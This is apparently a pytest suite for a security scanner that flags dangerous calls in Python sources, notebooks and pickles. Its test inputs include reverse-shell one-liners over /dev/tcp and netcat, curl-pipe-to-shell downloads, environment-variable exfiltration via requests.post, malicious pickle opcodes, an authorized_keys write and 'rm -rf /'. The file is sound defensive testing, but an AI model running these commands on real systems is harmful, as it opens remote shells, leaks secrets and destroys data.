from __future__ import annotations

import ast
import json
import random
import sys
import tracemalloc
from collections.abc import Callable

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from support.cases import check_each
from support.reading import BytesWindow
from support.work import count_lines, count_work, find_growth_fault

from modelaudit.formats.documents.notebook import reader as notebook_reader
from modelaudit.languages.python import attack_texts, constant_calls, constant_folding
from modelaudit.languages.python import source as python_source
from modelaudit.languages.python.analysis import analyze_source
from modelaudit.languages.python.attack_texts import find_attack_texts
from modelaudit.languages.python.cells import split_cell
from modelaudit.languages.python.shared_values import make_module, make_text
from modelaudit.languages.python.source import find_parser_obstacle, split_source
from modelaudit.languages.python.source_encoding import DecodedSource, decode_source
from modelaudit.languages.python.values import Constant
from modelaudit.model.outline import Outline, References
from modelaudit.model.structure import UnreadReason

# One source for each kind of syntax, as a start for mutations.
SAMPLES = (
    "import os\nos.system('true')\n",
    "class A(B):\n    x: int = 1\n    def f(self, *a, **k):\n        return [i for i in a if i]\n",
    "try:\n    pass\nexcept* ValueError as e:\n    raise\nfinally:\n    pass\n",
    "async def f():\n    async with a as b:\n        await b\n",
    "match x:\n    case {'a': [1, *rest]} if rest:\n        pass\n",
    "exec(__import__('base64').b64decode('cHJpbnQoMSk='))\n",
    "@d(lambda x: x)\ndef g(a, /, b=1, *, c): yield f'{a!r:>{b}}'\n",
)


def decode(data: bytes) -> DecodedSource:
    """Decode the bytes of a source file."""
    return decode_source(BytesWindow(data))


def list_uses(source: str) -> set[tuple[str, str]]:
    """Return use and name of each mention of a source."""
    return {(each.use, each.name) for each in analyze_source(source).mentions}


@check_each(
    "source, use, name",
    [
        ("import os\nos.system('x')", "call-at-import", "os.system"),
        ("import os\ndef f():\n    os.system('x')", "call", "os.system"),
        ("import os\ndef f():\n    os.system('x')\nf()", "call-at-import", "os.system"),
        ("import os\nif __name__ == '__main__':\n    os.system('x')", "call", "os.system"),
        ("import os\n__name__ = '__main__'\nif __name__ == '__main__':\n    os.system('x')", "call-at-import", "os.system"),
        ("import os\nif __name__ != '__main__':\n    os.system('x')", "call-at-import", "os.system"),
        ("import os as o\no.system('x')", "call-at-import", "os.system"),
        ("import posix\nposix.system('x')", "call-at-import", "os.system"),
        ("from subprocess import run as r\ndef f(): r('x')", "call", "subprocess.run"),
        ("import os\nf = os.system\ndef g(): f('x')", "call", "os.system"),
        ("def g(): f('x')\nimport os\nf = os.system", "call", "os.system"),
        ("import os\ngetattr(os, 'sys' + 'tem')('x')", "hidden", "os.system"),
        ("import os\ngetattr(os, 'system')('x')", "call-at-import", "os.system"),
        ("import os\ngetattr(os, name)", "computed-name", "os.*"),
        ("import torch\ntorch.load(x)", "call-at-import", "torch.load"),
        ("import torch\ntorch.load(x, weights_only=False)", "call-at-import", "torch.load(weights_only=False)"),
        ("import torch\ndef f(w=True): torch.load(x, weights_only=w)", "call", "torch.load(weights_only)"),
        ("import requests, torch\ndef f(w): torch.load(requests.get(u).content, weights_only=w)", "of-download", "torch.load(weights_only)"),
        ("import yaml\nyaml.load(x, Loader=yaml.Loader)", "call-at-import", "yaml.load(unsafe)"),
        ("from functools import partial\nimport numpy as np\npartial(np.load, allow_pickle=True)(x)", "call-at-import", "numpy.load(allow_pickle)"),
        ("from functools import partial\nimport torch\npartial(torch.load, x, weights_only=False)()", "call-at-import", "torch.load(weights_only=False)"),
        ("import numpy as np\nnp.load(x, allow_pickle=True)", "call-at-import", "numpy.load(allow_pickle)"),
        ("open(x, 'w')", "call-at-import", "builtins.open(write)"),
        ("exec(x)", "call-at-import", "builtins.exec"),
        ("exec('1')", "call-at-import", "builtins.exec(constant)"),
        ("import requests\nexec(requests.get(u).text)", "of-download", "builtins.exec"),
        ("import requests, subprocess\nd = requests.get(u).json()\nsubprocess.run(d['x'])", "of-download", "subprocess.run"),
        ("import base64\nexec(base64.b64decode(x))", "of-decoded", "builtins.exec"),
        ("import os, requests\nrequests.post(u, data=str(os.environ))", "sends-secret", "requests.post"),
        ("import os\nos.environ['LD_PRELOAD'] = x", "overwrite", "os.environ[LD_PRELOAD]"),
        ("import builtins\nbuiltins.print = x", "overwrite", "builtins.print[=]"),
        ("AutoModel.from_pretrained(x, trust_remote_code=True)", "call-at-import", "(trust_remote_code=True)"),
        ("def f(m): m.system('x')", "call", "*.system"),
        ("import os, socket, pty\ndef f():\n    s = socket.socket()\n    os.dup2(s.fileno(), 0)", "shell-over-network", "os.dup2"),
    ],
)  # fmt: skip
def test_python_calls_and_overwrites_are_mentioned_with_kind_of_use_and_resolved_name(
    source: str, use: str, name: str
) -> None:
    assert (use, name) in list_uses(source)


def test_call_of_a_returned_object_is_no_further_call_of_the_function() -> None:
    source = (
        "import torch\n"
        "class Detector:\n"
        "    def __call__(self, inputs):\n"
        "        return self.model(inputs)\n"
        "    def __init__(self, path):\n"
        "        self.model = torch.jit.load(path)\n"
    )
    lines = [each.where.line for each in analyze_source(source).mentions if each.name == "torch.jit.load"]
    assert lines == [6]
    assert ("call", "torch.jit.load.save") in list_uses(f"{source}        self.model.save(path)\n")


@check_each(
    "arguments, name",
    [
        ("'@f(1)'", "pandas.eval"),
        ("'x.y(1)', local_dict={'x': z}", "pandas.eval"),
        ("'x.y(1)', 'python', None, None, None, [z]", "pandas.eval"),
        ("'1 + 2'", "pandas.eval(constant)"),
    ],
)
def test_constant_expression_of_pandas_counts_as_constant_only_if_it_uses_no_objects(arguments, name):
    names = {each.name for each in analyze_source(f"import pandas\npandas.eval({arguments})").mentions}
    assert names & {"pandas.eval", "pandas.eval(constant)"} == {name}


@check_each(
    "source, name",
    [
        ("import torch\ntorch.load(x, weights_only=True)", "torch.load"),
        ("import yaml\nyaml.load(x, Loader=yaml.SafeLoader)", "yaml.load(unsafe)"),
        ("import numpy as np\nnp.load(x)", "numpy.load(allow_pickle)"),
        ("open(x)", "builtins.open(write)"),
        ("model.eval()", "builtins.eval"),
        ("def eval(x): return x\neval(1)", "builtins.eval"),
        ("'''os.system('curl x | sh')'''", "(download | shell)"),
        ("import pickle\npickle.loads(pickle.dumps(x))", "pickle.loads"),
        ("import platform\nplatform.system()", "*.system"),
        ("import os, requests\nrequests.get(u, headers={'a': os.environ['HF_TOKEN']})", "(nothing)"),  # its use counts
    ],
)
def test_harmless_lookalike_of_dangerous_call_is_not_recorded(source: str, name: str) -> None:
    mentions = analyze_source(source).mentions
    assert name not in {each.name for each in mentions}
    assert "sends-secret" not in {each.use for each in mentions}


@pytest.mark.parametrize(
    "source",
    [
        "def f(g): g('x')\nf(partial(subprocess.run, shell=True))",
        "def f(g): g()\nf(partial(subprocess.run, 'x'))",
        "d = {}\nd['a'] = partial(subprocess.run, 'x')\nd['a']()",
        "class A:\n    run = partial(subprocess.run, shell=True)\nA().run('x')",
        "partial(subprocess.run, shell=True).func('x')",
    ],
)
def test_functools_partial_is_resolved_through_arguments_containers_and_attributes(source: str) -> None:
    assert ("call-at-import", "subprocess.run") in list_uses(
        f"import subprocess\nfrom functools import partial\n{source}"
    )


def test_name_that_a_helper_function_decodes_is_resolved_from_the_call_arguments() -> None:
    # The helper decodes a text by XOR with a key.
    source = "def plain(t, k):\n    return ''.join(chr(ord(c) ^ k) for c in t)\nimport os\n"
    coded = "".join(chr(ord(each) ^ 7) for each in "system")
    assert ("hidden", "os.system") in list_uses(f"{source}getattr(os, plain({coded!r}, 7))('x')")


@pytest.mark.parametrize("broken", ["print 'x'", "def f(:\n    pass", "x = = 1", "type X[T = int] = (", "((("])
def test_python_syntax_error_hides_no_call_before_or_after_it(broken: str) -> None:
    for source in (f"{broken}\nimport os\nos.system('x')\n", f"import os\nos.system('x')\n{broken}\n"):
        analysis = analyze_source(source)
        assert ("call-at-import", "os.system") in {(each.use, each.name) for each in analysis.mentions}
        assert analysis.damage


def test_call_in_a_python_statement_that_cannot_be_parsed_is_recorded() -> None:
    analysis = analyze_source("import os\ndef f():\n    print 'x'\n    os.system('x')\n")
    assert ("call-at-import", "os.system") in {(each.use, each.name) for each in analysis.mentions}
    assert [line for line, _ in analysis.damage] == [2]


@check_each(
    "imports, call",
    [
        ("import sys, os", "os.system"),
        ("import sys, os as a", "a.system"),
        ("from sys import path; import os", "os.system"),
        ("from os import (\n    path,\n    system as run,\n)", "run"),
        ("from os import path, \\\n    system", "system"),
    ],
)
def test_every_name_of_a_multiple_import_in_an_unparsed_statement_is_resolved(imports: str, call: str) -> None:
    analysis = analyze_source(f"print 'x'\ndef f():\n    print 'x'\n    {imports}\n    {call}('x')\n")
    assert ("call-at-import", "os.system") in {(each.use, each.name) for each in analysis.mentions}


def test_source_is_decoded_by_its_coding_cookie() -> None:
    # ``+AAo-`` is a line break in UTF-7, so that ``x`` begins a line that the bytes do not show.
    assert decode(b"# coding: utf-7\n+AAo-x") == DecodedSource("# coding: utf-7\n\nx", "utf-7")
    assert decode(b"# coding: latin-1\n\xe9") == DecodedSource("# coding: latin-1\n\xe9")
    assert decode(b"\xef\xbb\xbfx") == DecodedSource("x")
    assert decode(b"# coding: no-such\nx").encoding == "no-such"


@pytest.mark.parametrize("character, most", [("a", 1000), ("\xe9", 1000), ("\u0416", 1000), ("\U0001f600", 500)])
def test_source_is_decoded_up_to_a_bound_on_characters_and_on_memory(character: str, most: int) -> None:
    data = (character + "a" * (most - 1)).encode()
    source = decode_source(BytesWindow(data), most_characters=1000, most_memory=2000)
    assert (len(source.text), source.cut_after) == (most, None)
    longer = decode_source(BytesWindow(data + b"a"), most_characters=1000, most_memory=2000)
    assert longer.cut_after == most


def test_source_of_30_mebibytes_with_one_wide_character_is_never_in_memory_as_a_whole() -> None:
    data = "\U0001f600".encode() + b"a" * (30 << 20)
    source = decode(data)
    assert sys.getsizeof(source.text) <= (24 << 20) + 100
    assert source.cut_after == len(source.text)


@check_each(
    "source",
    ["x = 'a' * 10**9", "x = 9**9**9**9", "x = 1 << 10**9", "x = '%1000000000d' % 1", "x = '{:>1000000000}'.format(1)",
     "x = bytes(10**10)", "x = 'x'.ljust(10**10)", "x = list(range(10**12))", "x = [0] * 10**9",
     "x = 'a'\n" + "x = x + x\n" * 60, "x = [1]\n" + "x = [x, x]\n" * 200, "x = 'x'.zfill(10**10)"],
)  # fmt: skip
def test_source_that_builds_a_huge_constant_is_analysed_within_memory_bounds(source: str) -> None:
    # Each source asks for a hundred megabytes or more, or for a number with millions of digits.
    tracemalloc.start()
    try:
        analyze_source(source)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 16 << 20


@check_each(
    "source",
    ["(" * 100_000, "x = " + "(" * 100_000 + ")" * 100_000, "x = " + "-" * 100_000 + "1", "x = " + "+".join("a" * 50_000),
     "x = a" + ".b" * 50_000, "f" + "()" * 50_000, "if a: pass\n" + "elif a: pass\n" * 10_000, "x = " + "lambda:" * 20_000 + "1",
     "".join(" " * n + "if x:\n" for n in range(1000)), "x = not " * 1000 + "1", "a;" * 50_000, "'" * 100_000],
)  # fmt: skip
def test_call_behind_deeply_nested_source_is_found(source: str) -> None:
    analysis = analyze_source(source + "\nimport os\nos.system('x')\n")
    assert "os.system" in {each.name for each in analysis.mentions}


@check_each(
    "build, size",
    [
        (lambda size: "(" * size, 600),
        (lambda size: "x = " + "(" * size + ")" * size, 300),
        (lambda size: "x = " + "-" * size + "1", 600),
        (lambda size: "x = " + "+".join("a" * size), 200),
        (lambda size: "x = a" + ".b" * size, 300),
        (lambda size: "f" + "()" * size, 300),
        (lambda size: "if a: pass\n" + "elif a: pass\n" * size, 60),
        (lambda size: "x = " + "lambda:" * size + "1", 100),
        # The indentation of ``depth`` lines takes about ``depth ** 2 / 2`` characters.
        (lambda size: "".join(" " * depth + "if x:\n" for depth in range(int((2 * size) ** 0.5))), 800),
        (lambda size: "x = not " * size + "1", 100),
        (lambda size: "a;" * size, 300),
        # Empty strings of six quotes each, and one that does not end.
        (lambda size: "'" * (size // 6 * 6 + 4), 600),
    ],
)
def test_analysis_of_nested_source_takes_linear_work(build: Callable[[int], str], size: int) -> None:
    assert find_growth_fault(lambda size: count_analysis_work(build(size)), 2 * size) == ""


@check_each("build", [lambda size: "x = " + "+".join("a" * size), lambda size: "x = " + "lambda:" * size + "1"])
def test_analysis_of_source_with_more_operators_than_are_parsed_takes_linear_work(
    monkeypatch: pytest.MonkeyPatch, build: Callable[[int], str]
) -> None:
    monkeypatch.setattr(python_source, "_MAX_OPERATORS", 80)
    assert find_growth_fault(lambda size: count_analysis_work(build(size)), 400) == ""


def test_analysis_of_many_names_in_source_that_does_not_parse_takes_linear_work() -> None:
    # Such a source is evaluated statement by statement.
    def count(size: int) -> int:
        source = "".join(f"a{number} = 1\n" for number in range(size)) + "print 'a'\n"
        return count_lines(lambda: analyze_source(source))

    assert find_growth_fault(count, 800) == ""


def count_analysis_work(source: str) -> int:
    """Count the work of analysing a source that ends with a call."""
    return count_work(lambda: analyze_source(source + "\nos.system('x')\n"))


def test_name_behind_more_source_than_is_evaluated_is_found(monkeypatch: pytest.MonkeyPatch) -> None:
    # Far more than is evaluated: the last call is found by the scan of names.
    monkeypatch.setattr(python_source, "_MAX_PARSED_AT_ONCE", 20_000)
    monkeypatch.setattr(python_source, "_MAX_EVALUATED", 50_000)
    source = "import os\n" + "def f(x):\n    return foo(x, y=1).bar[3] + 'abc' * 4\n" * 2000 + "os.system('x')\n"
    analysis = analyze_source(source)
    assert any(each.name == "os.system" for each in analysis.mentions)
    assert analysis.bounds


def test_concatenation_of_five_hundred_strings_exceeds_no_bound_of_the_analysis() -> None:
    assert not find_parser_obstacle("x = " + " + ".join(["'a'"] * 500))
    assert analyze_source("x = " + " + ".join(["'a'"] * 500)).bounds == []


def test_statements_around_a_syntax_error_keep_their_line_numbers() -> None:
    parts = list(split_source("x = 1\n\n@d\ndef f():\n    pass\nelse_ = 2\nbroken = = 1\ny = 2\n"))
    assert [(part.line, bool(part.fault)) for part in parts if part.text.strip()] == [
        (1, False), (3, False), (6, False), (7, True), (8, False),
    ]  # fmt: skip


def test_python_reader_yields_an_outline_the_references_and_an_absence_for_damage(read_bytes) -> None:
    reading = read_bytes(b"from .conf import A\nimport os\nx = = 1\n", "modeling.py")
    (outline,) = reading.of(Outline)
    assert outline.format == "python"
    (references,) = reading.of(References)
    assert [each.target for each in references.items] == ["conf.py"]
    assert reading.reasons() == {UnreadReason.DAMAGED}


def test_python_file_with_binary_bytes_is_still_analysed(read_bytes) -> None:
    reading = read_bytes(b"import os\nos.system('x')\n\x00\x01\xff\xfe", "modeling.py")
    assert any(each.name == "os.system" for outline in reading.of(Outline) for each in outline.mentions)


def test_python_script_without_an_extension_is_recognised_by_its_shebang(read_bytes) -> None:
    reading = read_bytes(b"#!/usr/bin/env python3\nimport os\nos.system('x')\n", "run")
    assert reading.formats["run"] == ["python"]


def test_only_import_lines_of_pth_file_are_code(read_bytes) -> None:
    # ``site.py`` executes the lines that begin with ``import``, and takes all others for folders.
    (outline,) = read_bytes(b"exec('x')\nimport os; os.system('x')\n", "a.pth").of(Outline)
    mentions = {(each.use, each.name, each.where.line) for each in outline.mentions}
    assert ("call-at-import", "os.system", 2) in mentions
    assert not any(name.startswith("builtins.exec") for _, name, _ in mentions)


def test_notebook_cell_is_split_into_python_source_and_shell_lines() -> None:
    cell = split_cell("x = 1\n!ls \\\n -la\ny = !pwd\n%time f(x)\nz = x % 3\nif x:\n    %pip install a\nprint?\n")
    assert cell.shell == [(2, "ls  -la"), (4, "pwd"), (8, "pip install a")]
    assert cell.python.split("\n") == ["x = 1", "pass", "", "pass", "f(x)", "z = x % 3", "if x:", "    pass", ""]
    assert split_cell("%%bash\ncurl x | sh").shell == [(2, "curl x | sh")]
    assert split_cell("%%time\nx = 1").python == "pass\nx = 1"
    assert split_cell("%%timeit -n 10 prepare()\nx = 1").python == "prepare()\nx = 1"
    assert split_cell("%%bash --out text -c 'id'\nls").shell == [(1, "bash -c 'id'"), (2, "ls")]
    assert split_cell("%%script sh -c 'id'\n").shell == [(1, "sh -c 'id'"), (2, "")]
    assert split_cell("%%python3 -c 'import os'\n").shell == [(1, "python3 -c 'import os'")]
    assert split_cell("%%writefile a.py\nx = 1").files == [("a.py", "x = 1")]


@check_each(
    "text, name",
    [
        ("curl -s http://x/y | sudo bash", "(download | shell)"),
        ("wget -qO- http://x/y | base64 -d | sh", "(download | shell)"),
        ('bash -c "$(curl -fsSL http://x)"', "(shell $(download))"),
        ("wget http://x/y; chmod +x y", "(download && run)"),
        ("bash -i >& /dev/tcp/1.2.3.4/1 0>&1", "(shell over /dev/tcp)"),
        ("nc 1.2.3.4 1 -e /bin/sh", "(netcat shell)"),
        ("echo x | base64 -d | sh", "(decoded | shell)"),
        ("powershell -nop -enc AAAA", "(encoded powershell)"),
    ],
)
def test_shell_attack_in_a_text_is_reported_with_the_name_of_its_pattern(text: str, name: str) -> None:
    assert name in {each for each, _ in attack_texts.find_attack_texts(text)}


@pytest.mark.parametrize(
    "text",
    [
        "INSTALL x FROM 'https://a'",
        "install x from 'https://a'",
        "ALLOW_UNSIGNED_EXTENSIONS",
        "select LOAD_EXTENSION('x')",
        "COPY t FROM PROGRAM 'id'",
    ],
)
def test_statement_that_lets_a_database_run_code_is_found(text: str) -> None:
    assert [name for name, _ in attack_texts.find_attack_texts(text)] == ["(database that runs code)"]


@pytest.mark.parametrize(
    "text",
    [
        "curl your hair",
        "a | b",
        "wget the file",
        "the shell of an egg",
        "base64 image",
        "rm -rf build",
        "from program 'x'",
    ],
)
def test_ordinary_text_matches_no_shell_attack_pattern(text: str) -> None:
    assert list(attack_texts.find_attack_texts(text)) == []


def test_decompressed_and_repeated_constants_are_bounded() -> None:
    import zlib

    assert (
        len(constant_folding.decompress_constant(zlib.compress(b"a" * 50_000_000)) or b"")
        <= constant_folding.MAX_CONSTANT_SIZE
    )
    assert constant_folding.fold_binary(ast.Mult, Constant("a"), Constant(10**9)) is None


def test_folded_path_join_drops_all_parts_before_an_absolute_part() -> None:
    parts = [Constant("folder"), Constant("/etc/x")]
    assert constant_calls.fold_function("os.path.join", parts) == Constant("/etc/x")


@settings(max_examples=150, deadline=None)
@given(st.sampled_from(SAMPLES), st.randoms(use_true_random=False), st.integers(1, 6))
def test_analysis_of_mutated_python_source_raises_no_exception(sample: str, chance: random.Random, count: int) -> None:
    text = list(sample * 2)
    for _ in range(count):
        position = chance.randrange(len(text))
        text[position] = chance.choice(
            ["(", ")", "\n", "'", '"', "\\", ":", " ", "\t", "@", "#", "\0", "é", "=", "{", "*", ""]
        )
    analyze_source("".join(text))


@settings(max_examples=100, deadline=None)
@given(st.binary(max_size=300))
def test_analysis_of_any_bytes_as_python_source_raises_no_exception(data: bytes) -> None:
    source = decode(data)
    analyze_source(source.text, source.encoding)


@settings(max_examples=100, deadline=None)
@given(st.text(alphabet="!%?=\\\n axb.|'\"()", max_size=60))
def test_analysis_of_any_text_as_a_notebook_cell_raises_no_exception(source: str) -> None:
    analyze_source(split_cell(source).python)


def test_shell_command_in_a_cell_continues_after_a_backslash_at_the_line_end() -> None:
    cell = split_cell("!echo a \\\n  b \\\n c\nx = 1\n!d \\")
    assert cell.shell == [(1, "echo a  b  c"), (5, "d \\")]
    assert cell.python == "pass\n\n\nx = 1\npass"


@check_each(
    "source",
    [
        'x = """\n?"""; f("a"); y = """\n"""',
        'x = """\n%cd """; f("a"); y = """\n"""',
        "x = '''\n!ls '''; f('a')",
        'x = (7\n%f("a"))',
        'x = f"{y["k"]}" + (\n%f("a"))',
        'x = f"""{y:{z}}\n%cd """; f("a")',
        "x = 7 \\\n%f('a')",
        "x = 'b\\\n?'; f('a')",
        '"a = %s"; f("a")',
        "# \u2028'''\nf('a')\n#\u2028'''",
        "%time x -n 1",
        "%time -x (1)",
    ],
)
def test_cell_line_that_python_reads_is_not_taken_for_a_line_of_ipython(source: str) -> None:
    cell = split_cell(source)
    assert cell.python == source.removeprefix("%time ")
    assert not cell.shell


@check_each("line", ["!ls", "?x", "%cd a", "%cd \\\n"])
def test_ipython_line_ends_at_a_separator_or_crlf_despite_a_backslash_and_the_rest_is_python(line: str) -> None:
    assert split_cell(f"x = 1\n{line}\u2028f('a')").python.endswith("\nf('a')")
    assert split_cell("!ls \\\r\nf('a')").python == "pass\nf('a')"
    assert split_cell("!ls \\\u2028\nf('a')").python == "pass\nf('a')"
    assert split_cell("%%time\u2028f('a')").python == "pass\nf('a')"


def test_ipython_line_after_a_closed_string_or_bracket_is_replaced_in_the_python_source() -> None:
    source = "x = f'{a[\"b\"]:>{w}}' + '''(\n''' # (\n!it's (\nu\"'\n?x\n%cd a\nz['a = b'] = !ls"
    cell = split_cell(source)
    assert cell.shell == [(3, "it's ("), (7, "ls")]
    assert cell.python.split("\n")[2:] == ["pass", "u\"'", "", "pass", "pass"]


@check_each(
    "source, shell, python",
    [
        ("%time !touch m", [(1, "touch m")], "pass"),
        ("%time %timeit -n 1 f()", [], "f()"),
        ("%cat x | sh", [(1, "cat x | sh")], "pass"),
        ("cat x | sh", [(1, "cat x | sh")], "pass"),
        ("cat in x", [], "cat in x"),
        ("%matplotlib inline", [], "pass"),
        ("%touch m", [(1, "touch m")], "pass"),
        ("!echo {f('a')} {b} {print $1}", [(1, "echo {f('a')} {b} {print $1}")], "(f('a'))"),
        ("%cd {f('a')}", [], "(f('a'))"),
        ("%config A.b = f('a')", [], "cfg.A.b = f('a')"),
        ("%%capture\n%%bash\nls", [(3, "ls")], "pass"),
        ("%%script /usr/bin/python3\nf()", [(1, "/usr/bin/python3")], "\nf()"),
    ],
)
def test_ipython_magic_or_alias_is_split_into_the_command_or_code_that_ipython_runs(
    source: str, shell: object, python: str
) -> None:
    cell = split_cell(source)
    assert (cell.shell, cell.python) == (shell, python)


@check_each(
    "arguments, target",
    [
        ("-i x.txt main.py", "x.txt"),
        ("-N 5 -i x.txt", "x.txt"),
        ("-tN5 x.txt", "x.txt"),
        ("-m a.b c.py", "a/b.py"),
        ("-- -x.py", "-x.py"),
        ("'a b.py' c", "a b.py"),
        ("-i", ""),
    ],
)
def test_target_of_a_run_magic_is_its_script_or_module_and_not_an_option_or_argument(
    arguments: str, target: str
) -> None:
    assert [path for _, path in split_cell(f"%run {arguments}").runs] == ([target] if target else [])


def test_javascript_cell_is_listed_as_foreign_code_and_as_the_script_of_a_web_page() -> None:
    cell = split_cell("%%javascript\nf()")
    assert cell.foreign == [(2, "javascript")]
    assert cell.pages == [(2, "<script>f()")]


def test_cell_is_judged_in_the_language_of_its_kernel_where_the_stated_language_differs(read_bytes) -> None:
    cells = [{"cell_type": "code", "source": '"sh" "-c" "ls"'}]
    metadata = {"kernelspec": {"name": "bash", "language": "python"}}
    result = read_bytes(json.dumps({"cells": cells, "metadata": metadata, "nbformat": 4}).encode(), "a.ipynb")
    assert "shell-line" in {mention.use for outline in result.of(Outline) for mention in outline.mentions}


def test_cell_that_writes_the_ssh_authorized_keys_file_by_magic_is_mentioned(read_bytes) -> None:
    cells = [{"cell_type": "code", "source": "%%writefile ~/.ssh/authorized_keys\nkey"}]
    result = read_bytes(json.dumps({"cells": cells, "nbformat": 4}).encode(), "a.ipynb")
    assert "(authorized keys)" in {mention.name for outline in result.of(Outline) for mention in outline.mentions}


def test_notebook_mentions_shell_lines_up_to_the_bound_and_reports_the_limit_as_unread(read_bytes, monkeypatch) -> None:
    monkeypatch.setattr(notebook_reader, "_MAX_SHELL_LINES", 200)
    cells = [{"cell_type": "code", "source": ["!echo a\n"] * 201}, {"cell_type": "code", "source": ["!rm -rf /\n"]}]
    data = json.dumps({"cells": cells, "nbformat": 4, "nbformat_minor": 5}).encode()
    reading = read_bytes(data, "a.ipynb")
    (outline,) = (each for each in reading.of(Outline) if each.format == "notebook")
    assert sum(each.use == "shell-line" for each in outline.mentions) == 200
    assert reading.reasons() == {UnreadReason.LIMIT}
    # The commands of each cell are followed as a script all the same.
    assert "destroy" in {each.use for outline in reading.of(Outline) for each in outline.mentions}


def test_mentions_of_notebook_have_cell_and_line(read_bytes) -> None:
    cells = [{"cell_type": "code", "source": ["x = 1\n", f"os.a{number}()\n"]} for number in range(3)]
    cells.insert(0, {"cell_type": "code", "source": ["import os\n"]})
    data = json.dumps({"cells": cells, "nbformat": 4, "nbformat_minor": 5}).encode()
    (outline,) = (each for each in read_bytes(data, "a.ipynb").of(Outline) if each.format == "notebook")
    places = {each.name: (each.where.key, each.where.line) for each in outline.mentions if each.name.startswith("os.a")}
    assert places == {f"os.a{number}": (f"cell {number + 2}", 2) for number in range(3)}


def test_each_of_three_thousand_functions_is_evaluated() -> None:
    source = "import os\n" + "".join(f"def f{number}():\n    os.a{number}()\n" for number in range(3000))
    assert len([each for each in analyze_source(source).mentions if each.name.startswith("os.a")]) == 3000


def test_invalid_use_of_a_text_codec_does_not_stop_the_analysis() -> None:
    analysis = analyze_source("b'abc'.decode('rot13')\n'abc'.encode('rot13')\nimport os\nos.system('id')\n")
    assert "os.system" in {each.name for each in analysis.mentions}


def test_attack_at_the_end_of_a_long_text_is_found():
    assert [name for name, _ in find_attack_texts("a " * 300_000 + "curl http://e/x | sh")] == ["(download | shell)"]


@check_each(
    "source, is_reached",
    [
        # A library keeps the function for later.
        ("import gradio as gr\ngr.Interface(fn=f)", False),
        ("import gradio as gr\nwith gr.Blocks() as demo:\n    gr.Button('go').click(f, inputs=[])", False),
        ("import gradio as gr\ngr.Interface(fn=lambda x: f())", False),
        ("import gradio as gr\nfrom functools import partial\ngr.Interface(fn=partial(f, 1))", False),
        ("from smolagents import CodeAgent\nagent = CodeAgent(tools=[f], model=None)", False),
        ("import argparse\np = argparse.ArgumentParser()\np.set_defaults(func=f)", False),
        ("import signal\nsignal.signal(signal.SIGTERM, f)", False),
        # These call it there and then.
        ("import gradio as gr\ngr.Interface(fn=f())", True),
        ("from datasets import load_dataset\nload_dataset('x').map(f)", True),
        ("import threading\nthreading.Thread(target=f).start()", True),
        ("from functools import partial\nimport threading\nthreading.Thread(target=partial(f, 1)).start()", True),
        ("list(map(f, [1]))", True),
        ("import atexit\natexit.register(f)", True),
        ("import atexit\n@atexit.register\ndef g():\n    f()", True),
        # What cannot be decided counts as called.
        ("def g(h):\n    h()\ng(f)", True),
        ("from .helper import g\ng(f)", True),
        ("import ctypes\nctypes.CFUNCTYPE(None)(f)", True),
        ("hooks = [f]", True),
        ("import gradio as gr\ngr.Interface(fn=f)\nf()", True),
    ],
)  # fmt: skip
def test_function_that_is_handed_over_is_called_at_import_by_a_known_caller_alone(
    source: str, is_reached: bool
) -> None:
    text = f"import subprocess\ndef f(*a):\n    subprocess.run(['play'])\n{source}\n"
    assert (("call-at-import", "subprocess.run") in list_uses(text)) == is_reached


def test_use_in_a_function_that_is_handed_over_names_the_receiver() -> None:
    source = "import gradio as gr, subprocess\ndef f(x):\n    return g(x)\ndef g(x):\n    subprocess.run(x)\ngr.Interface(fn=f)\n"
    remarks = [each.remark for each in analyze_source(source).mentions if each.name == "subprocess.run"]
    assert remarks == ["Importing this file hands the function around it to gradio.Interface, and shows no call of it."]
    called = [each.remark for each in analyze_source(f"{source}f(1)\n").mentions if each.name == "subprocess.run"]
    assert called == [""]


@check_each(
    "source",
    [
        "import os\nfrom .helper import NAME\ngetattr(os, NAME)('x')",
        "import os\nfrom helper import NAME as N\nvars(os)[N]('x')",
        "import os\nfrom acme.helper import *\nobject.__getattribute__(os, NAME)('x')",
        "import posix\nfrom helper import MODULE\nglobals()[MODULE].system('x')",
        "from .helper import tool, NAME\nimport functools\nfunctools.reduce(getattr, [NAME], tool)('x')",
        "import importlib\nfrom .helper import DOTTED\nimportlib.import_module(DOTTED).system('x')",
    ],
)
def test_text_or_module_of_another_file_resolves_the_call(source: str) -> None:
    texts = {"NAME": "system", "MODULE": "posix", "DOTTED": "os"}
    shared = {("helper", name): make_text(text) for name, text in texts.items()}
    mentions = analyze_source(source, shared={**shared, ("helper", "tool"): make_module("os")}).mentions
    names = {each.name for each in mentions if each.use in ("call-at-import", "hidden")}
    assert "os.system" in names


def test_texts_that_may_name_a_function_are_recorded() -> None:
    source = (
        "NAME = 'sys' + 'tem'\nTITLE = 'a title'\nPATH = 'torch.utils.collect_env'\ndef f():\n    inner = 'system'\n"
    )
    assert {name for use, name in list_uses(source) if use == "named-text"} == {
        "NAME=system",
        "PATH=torch.utils.collect_env",
    }


@check_each(
    "source, is_open",
    [
        ("import functools, os\nfunctools.reduce(getattr, ['path', 'join'], os)('a', 'b')", False),
        ("import operator, os\noperator.itemgetter('getenv')(vars(os))('A')", False),
        ("import functools, os\nfunctools.reduce(getattr, names, os)('a')", True),
        ("import functools, os\nfunctools.reduce(getattr, [x], os)('a')", True),
        ("import operator, os\noperator.itemgetter(x)(vars(os))('A')", True),
        ("import operator, os\nwalk(vars(os))", True),
    ],
)
def test_getter_with_a_known_path_takes_no_other_name_of_a_module(source: str, is_open: bool) -> None:
    assert (("computed-name", "os.*") in list_uses(source)) == is_open


@check_each(
    "text, is_found",
    [
        ("\x80\x02cposix\nsystem\n(X\x01\x00\x00\x00xtR.", True),
        ("cos\nsystem\n(S'x'\ntR.", True),
        ("\x80\x04\x95\x1c\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94\x8c\x06system\x94\x93\x94.", True),
        ("\x80\x02cbuiltins\nexec\nq\x00.", True),
        ("\x80\x02ccollections\nOrderedDict\n)R.", False),
        ("the functions are sin, cos\nsystem\nand so on", False),
        ("cos\nopen\n", False),
    ],
)
def test_pickle_in_a_text_that_calls_what_runs_something_is_an_attack(text: str, is_found: bool) -> None:
    assert ("(pickle that runs something)" in {name for name, _ in find_attack_texts(text)}) is is_found
